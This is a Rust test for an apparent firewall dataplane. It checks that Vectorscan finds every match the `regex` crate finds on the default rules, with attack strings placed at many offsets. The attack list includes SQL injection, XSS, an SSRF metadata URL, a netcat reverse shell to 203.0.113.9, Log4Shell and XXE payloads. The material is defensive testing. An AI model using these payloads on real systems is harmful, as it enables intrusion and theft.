//! Vectorscan against the `regex` crate on the default ruleset's patterns,
//! with each attack string placed after 0 to 200 bytes of other text: every
//! text the `regex` crate matches, Vectorscan must match too.
//!
//! Ignored by default: the Vectorscan of Debian 12 (5.4.9), on a machine
//! with AVX-512, misses some of these matches once they start 62 bytes or
//! more into the text (see the README's known limits). Run it after
//! changing the Vectorscan the dataplane links to:
//! `cargo test -p palisade-dataplane --release -- --ignored offsets`.

use std::collections::BTreeMap;

use hyperscan::prelude::*;
use hyperscan::{BlockMode, Pattern as HsPattern, PatternFlags as HsFlags};
use serde_yaml::Value;

/// Attack strings of the classes the default rules cover, lower case (as
/// the rules' chains leave them).
const ATTACKS: [&str; 16] = [
    "1;drop table users",
    "1; delete from users",
    "1 union select password from users",
    "x' or '1'='1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "http://169.254.169.254/latest/meta-data/",
    ";cat /etc/passwd",
    "$(id)",
    "a|nc -e /bin/sh 203.0.113.9 4444",
    "../../../../etc/passwd",
    "${jndi:ldap://x.example/a}",
    "php://filter/resource=index.php",
    "<!doctype x [<!entity xxe system \"file:///etc/passwd\">]>",
    "you have an error in your sql syntax",
];

/// Every `regex:` of the default rule files, with its `nocase` and
/// `dotall` flags.
fn default_patterns() -> Vec<(String, bool, bool)> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/default");
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).expect("rules/default") {
        let path = entry.expect("a directory entry").path();
        if path.extension().is_some_and(|ext| ext == "yaml") {
            let text = std::fs::read_to_string(&path).expect("a rule file");
            let yaml: Value = serde_yaml::from_str(&text).expect("YAML");
            collect(&yaml, (false, false), &mut out);
        }
    }
    out.sort();
    out.dedup();
    out
}

fn collect(value: &Value, flags: (bool, bool), out: &mut Vec<(String, bool, bool)>) {
    match value {
        Value::Mapping(map) => {
            let flag =
                |key: &str, default| map.get(key).and_then(Value::as_bool).unwrap_or(default);
            let flags = (flag("nocase", flags.0), flag("dotall", flags.1));
            if let Some(regex) = map.get("regex").and_then(Value::as_str) {
                out.push((regex.to_string(), flags.0, flags.1));
            }
            map.values().for_each(|v| collect(v, flags, out));
        }
        Value::Sequence(list) => list.iter().for_each(|v| collect(v, flags, out)),
        _ => {}
    }
}

#[test]
#[ignore = "Debian 12's Vectorscan 5.4.9 misses matches past byte 62 on AVX-512 machines"]
fn vectorscan_finds_what_the_regex_crate_finds_at_every_offset() {
    // Per pattern missing some match: how many, and the first one.
    let mut missed: BTreeMap<String, (usize, String)> = BTreeMap::new();
    let patterns = default_patterns();
    assert!(patterns.len() > 50, "the default rules' patterns are read");
    for (text, nocase, dotall) in &patterns {
        let mut flags = HsFlags::ALLOWEMPTY;
        flags.set(HsFlags::CASELESS, *nocase);
        flags.set(HsFlags::DOTALL, *dotall);
        let db = HsPattern::with_flags(text.clone(), flags)
            .and_then(|p| p.build::<BlockMode>())
            .expect("a default pattern compiles");
        let scratch = db.alloc_scratch().expect("scratch");
        let Ok(reference) = regex::bytes::RegexBuilder::new(text)
            .unicode(false)
            .case_insensitive(*nocase)
            .dot_matches_new_line(*dotall)
            .build()
        else {
            continue;
        };
        for attack in ATTACKS {
            for n in 0..=200 {
                let subject = format!("{} {attack}", "x".repeat(n));
                if !reference.is_match(subject.as_bytes()) {
                    continue;
                }
                let mut found = false;
                db.scan(subject.as_bytes(), &scratch, |_, _, _, _| {
                    found = true;
                    Matching::Terminate
                })
                .ok();
                if !found {
                    let first = format!("{attack:?} after {} bytes", n + 1);
                    missed.entry(text.clone()).or_insert((0, first)).0 += 1;
                }
            }
        }
    }
    assert!(missed.is_empty(), "patterns missing matches: {missed:#?}");
}
